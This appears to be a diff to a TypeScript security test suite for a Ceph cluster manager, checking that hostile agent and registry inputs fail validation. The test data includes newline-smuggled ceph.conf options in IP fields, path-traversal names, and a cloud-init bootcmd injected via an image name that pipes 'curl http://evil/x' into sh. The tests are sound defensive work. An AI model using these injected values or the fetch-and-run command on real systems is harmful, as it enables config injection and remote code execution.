@@ -8,6 +8,7 @@ import { gatewayUrl } from '../../src/services/s3.js';
 import { startLab, waitFor, type LabQuarry } from '../lab/harness.js';
 import { admin, hardware, readyAgent, type Agent } from '../http/agent-helpers.js';
 import { Client } from '../http/client.js';
+import { codeOf, type ProblemBody } from '../http/bodies.js';
 import { bytesOf, serveImages } from '../helpers/image-server.js';
 
 const HOOK = 'osd_crush_location_hook = /tmp/x';
@@ -18,7 +19,7 @@ const nodePhase = async (q: LabQuarry, id: string): Promise<string | undefined> 
 async function activeAgent(q: LabQuarry, n: number, over: Partial<ReturnType<typeof hardware>> = {}): Promise<Agent> {
   const a = await readyAgent(q, n);
   const r = await a.client.post('/node/hardware', { ...hardware(n), ...over });
-  if (r.status !== 200) throw new Error(`report: ${r.status} ${r.json?.code}`);
+  if (r.status !== 200) throw new Error(`report: ${r.status} ${codeOf(r.json)}`);
   await waitFor('the node active', async () => (await nodePhase(q, a.nodeId)) === 'active');
   return a;
 }
@@ -29,7 +30,7 @@ test('attack an agent reporting an ip with a newline to add a ceph.conf option i
   const c = await admin(q);
   const disk = await waitFor('an eligible disk', async () => ((await c.get('/disks')).json as Array<{ id: string; nodeId: string; eligible: boolean }>).find((d) => d.nodeId === a.nodeId && d.eligible));
   t.is((await c.post('/ceph/mon/create', { nodeId: a.nodeId, diskId: disk.id })).status, 200);
-  const conf = async () => Buffer.from((await c.get('/ceph/cluster/config')).json.config, 'base64').toString('utf8');
+  const conf = async () => Buffer.from((await c.get<{ config: string }>('/ceph/cluster/config')).json.config, 'base64').toString('utf8');
   const before = await waitFor('the monitor in mon_host', async () => {
     const text = await conf();
     return text.includes('mon_host = [v2:192.0.2.1:3300,v1:192.0.2.1:6789]') ? text : undefined;
@@ -37,10 +38,10 @@ test('attack an agent reporting an ip with a newline to add a ceph.conf option i
   const publicBefore = (await new Client(q.url).get('/templates/rendered/ceph.conf')).text;
 
   for (const ip of [`192.0.2.1\n${HOOK}`, `192.0.2.1,v1:192.0.2.9:6789]\n${HOOK}\n#`, `192.0.2.1\r${HOOK}`]) {
-    const r = await a.client.post('/node/hardware', { ...hardware(1), ip });
+    const r = await a.client.post<ProblemBody>('/node/hardware', { ...hardware(1), ip });
     t.is(r.status, 400, JSON.stringify(ip));
     t.is(r.json.code, 'VALIDATION_FAILED');
-    t.true((r.json.errors as Array<{ path: string }>).some((e) => e.path === '/body/ip'), JSON.stringify(r.json.errors));
+    t.true(r.json.errors.some((e) => e.path === '/body/ip'), JSON.stringify(r.json.errors));
     const nic = await a.client.post('/node/hardware', { ...hardware(1), nics: [{ ...hardware(1).nics[0]!, ip }] });
     t.is(nic.status, 400, `nic ${JSON.stringify(ip)}`);
   }
@@ -67,10 +68,10 @@ test('attack an agent reporting hostile hardware fields (device path, hostname, 
     ['a NIC name with a slash', { ...good, nics: [{ ...nic0, name: 'eth0/../x' }] }, '/body/nics/0/name'],
     ['5,000 disks', { ...good, disks: Array.from({ length: 5_000 }, () => disk0) }, '/body/disks'],
   ] as const) {
-    const r = await a.client.post('/node/hardware', body);
+    const r = await a.client.post<ProblemBody>('/node/hardware', body);
     t.is(r.status, 400, what);
     t.is(r.json.code, 'VALIDATION_FAILED', what);
-    t.true((r.json.errors as Array<{ path: string }>).some((e) => e.path === field), `${what}: ${JSON.stringify(r.json.errors).slice(0, 300)}`);
+    t.true(r.json.errors.some((e) => e.path === field), `${what}: ${JSON.stringify(r.json.errors).slice(0, 300)}`);
   }
   t.deepEqual(q.fleet.observe(a.nodeId).report, good, 'nothing changed');
 });
@@ -82,7 +83,7 @@ test('attack a registry catalog with a newline in an image name to add bootcmd t
   server.catalogBody = JSON.stringify(catalog.map((e) => ({ ...e, name: 'debian-12\nbootcmd:\n  - [ sh, -c, "curl http://evil/x | sh" ]' })));
   const q = await startLab(t, 0, { env: { IMAGE_REGISTRY: server.url } });
   const c = await admin(q);
-  const offered = await c.get('/images/available');
+  const offered = await c.get<ProblemBody>('/images/available');
   t.is(offered.status, 503);
   t.is(offered.json.code, 'REGISTRY_INVALID');
   t.regex(offered.json.detail, new RegExp(`/0/name \\(entry ${ID}\\)`));
